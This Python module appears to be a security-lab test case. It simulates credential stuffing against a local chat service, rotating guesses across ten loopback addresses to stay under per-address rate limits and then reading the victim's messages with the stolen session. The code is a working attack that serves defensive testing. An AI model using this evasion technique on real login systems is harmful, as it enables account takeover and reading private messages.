"""A list of passwords from another site, tried from ten addresses, four each."""

import httpx2

from lab.harness import Outcome, Refused, Session, Target

BY_HAND = True
WHY = (
    "Passwords are hashed, the answer is always the same, and an address has five guesses. The "
    "attacker has ten addresses and needs four from each: no counter counts for the account."
)
TRAIL = frozenset({"authn_login_fail_max"})

VICTIM = "alice"
LEAKED = [f"Stormy-weather-{year}" for year in range(1985, 2025)]
"""The last one is right: it is the victim's password elsewhere, too."""
ADDRESSES = [f"127.0.0.{number}" for number in range(100, 110)]


async def legitimate(target: Target) -> None:
    """The owner logs in and reads."""
    async with target.connect("/ws/chat", session=await target.login(VICTIM)) as socket:
        assert (await socket.receive())["messages"]


async def attack(target: Target) -> Outcome:
    """Go through the list, taking turns with the addresses."""
    tried = 0
    for number, password in enumerate(LEAKED):
        session = await guess(target, password, ADDRESSES[number % len(ADDRESSES)])
        tried += 1
        if session is None:
            continue
        try:
            async with target.connect("/ws/chat", session=session) as socket:
                read = (await socket.receive())["messages"]
        except Refused:
            continue
        return target.outcome(True, f"reads {len(read)} message of {VICTIM} after {tried} guesses")
    return target.outcome(False, f"{tried} guesses, the right one among them, open nothing")


async def guess(target: Target, password: str, address: str) -> Session | None:
    """Log in from that address; None if it did not work."""
    transport = httpx2.AsyncHTTPTransport(local_address=address, verify=False)  # no TLS here
    body = {"username": VICTIM, "password": password}
    async with httpx2.AsyncClient(
        base_url=target.origin, timeout=20, transport=transport, trust_env=False
    ) as client:
        answer = await client.post("/auth/login", json=body, headers={"Origin": target.origin})
    shown = password if password != target.users[VICTIM] else "********"
    target.write(address, ">", f"POST /auth/login {VICTIM} {shown}: {answer.status_code}")
    if answer.status_code != 200:
        return None
    session = Session(f"the attacker at {address}")
    for line in answer.headers.get_list("set-cookie"):
        name, _, value = line.partition(";")[0].partition("=")
        session.cookies[name.strip()] = value.strip().strip('"')
    return session
